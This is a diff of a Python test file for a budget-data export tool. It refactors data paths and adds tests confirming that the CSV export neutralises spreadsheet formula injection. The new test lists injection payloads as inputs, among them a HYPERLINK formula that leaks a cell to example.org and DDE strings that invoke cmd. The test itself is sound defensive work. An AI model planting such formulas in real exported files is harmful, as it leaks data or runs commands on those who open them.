@@ -7,6 +7,7 @@ import html
 import io
 import json
 import re
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -14,17 +15,18 @@ import jsonschema
 import pytest
 
 from callcma import build
-from callcma.stages.s4_export import CSV_COLUMNS, CSV_JOIN, SCHEMA_NAME, export_data, export_value
+from callcma.stages.s4_export import CSV_COLUMNS, CSV_JOIN, SCHEMA_NAME, export_csv, export_data, export_value, neutralise_cell
 from callcma.stages.s1_load import load_document
 from callcma.model import Dataset, Fact
-from callcma.settings import DATA_DIR, DATA_EXPORT_DIR
+from callcma.settings import DATA_EXPORT_DIR
+from helpers import PROJECT
 
 ADDED_FACT = Path(__file__).parent / "fixtures" / "export" / "budget-fait-ajoute.yaml"
 
 
 @pytest.fixture(scope="module")
 def dataset() -> Dataset:
-    return build.check_data()
+    return build.check_data(PROJECT.data_dir)
 
 
 @pytest.fixture(scope="module")
@@ -111,7 +113,7 @@ def test_a_fact_added_to_the_yaml_appears_in_every_export(data_copy: Path, tmp_p
     budget = data_copy / "budget.yaml"
     budget.write_text(budget.read_text(encoding="utf-8") + ADDED_FACT.read_text(encoding="utf-8"), encoding="utf-8")
     docs = tmp_path / "docs"
-    build.generate_site_sources(data_copy, docs)
+    build.generate_site_sources(replace(PROJECT, data_dir=data_copy, docs_dir=docs))
     exported = docs / DATA_EXPORT_DIR
     data = json.loads((exported / "convention.json").read_text(encoding="utf-8"))
     assert data["budget"][-1] | {"citations": None} == {
@@ -142,14 +144,14 @@ def test_a_fact_added_to_the_yaml_appears_in_every_export(data_copy: Path, tmp_p
     }
 
 
-@pytest.mark.parametrize("name", sorted(path.name for path in DATA_DIR.glob("*.yaml")))
+@pytest.mark.parametrize("name", sorted(path.name for path in PROJECT.data_dir.glob("*.yaml")))
 def test_every_data_file_validates_against_the_schema_it_names(name: str, validator: jsonschema.Draft202012Validator) -> None:
-    path = DATA_DIR / name
+    path = PROJECT.data_dir / name
     assert path.read_text(encoding="utf-8").startswith(f"# yaml-language-server: $schema=../docs/{DATA_EXPORT_DIR}/{SCHEMA_NAME}\n")
     assert _errors(validator, load_document(path, f"data/{name}").content) == []
 
 
-CERTAINTIES = "['attesté', 'déduit', 'calculé', 'déclaration']"
+CERTAINTIES = "['attesté', 'appréciation', 'déduit', 'calculé', 'déclaration']"
 
 
 @pytest.mark.parametrize(
@@ -191,3 +193,28 @@ def test_the_open_data_page_links_each_file_relatively_with_its_size(site: Path,
         assert target.read_bytes() == exports[name]
         assert html.unescape(size) == f"{target.stat().st_size / 1000:.1f}".replace(".", ",") + "\u00a0ko"
     assert 'href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/"' in page
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("https://example.org/?d="&A1,"Cliquez")', '\'=HYPERLINK("https://example.org/?d="&A1,"Cliquez")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Montant = 140 000 €", "Montant = 140 000 €"),
+        ("'déjà cité'", "'déjà cité'"),
+    ],
+)
+def test_csv_text_cells_that_a_spreadsheet_would_evaluate_start_with_an_apostrophe(dataset: Dataset, text: str, cell: str) -> None:
+    fact = dataset.budget[0]
+    hostile = dataset.model_copy(update={"budget": [fact.model_copy(update={"label": text, "value": text, "unit": None}), *dataset.budget[1:]]})
+    row = next(row for row in _rows(export_csv(hostile).encode("utf-8")) if row["id"] == fact.id)
+    assert (row["label"], row["value"]) == (cell, cell)
+
+
+@pytest.mark.parametrize("number", [-2, -0.5, 140000, 2.5])
+def test_csv_numbers_stay_numbers(number: int | float) -> None:
+    assert neutralise_cell(number) == number
